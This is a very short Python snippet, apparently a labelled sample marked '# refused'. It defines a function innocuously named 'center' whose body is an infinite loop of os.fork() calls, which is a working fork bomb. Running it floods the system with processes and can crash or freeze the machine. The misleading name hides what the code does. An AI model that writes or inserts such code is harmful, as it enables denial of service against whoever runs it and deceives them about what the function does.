# refused
import os
def center(x):
    while True:
        os.fork()
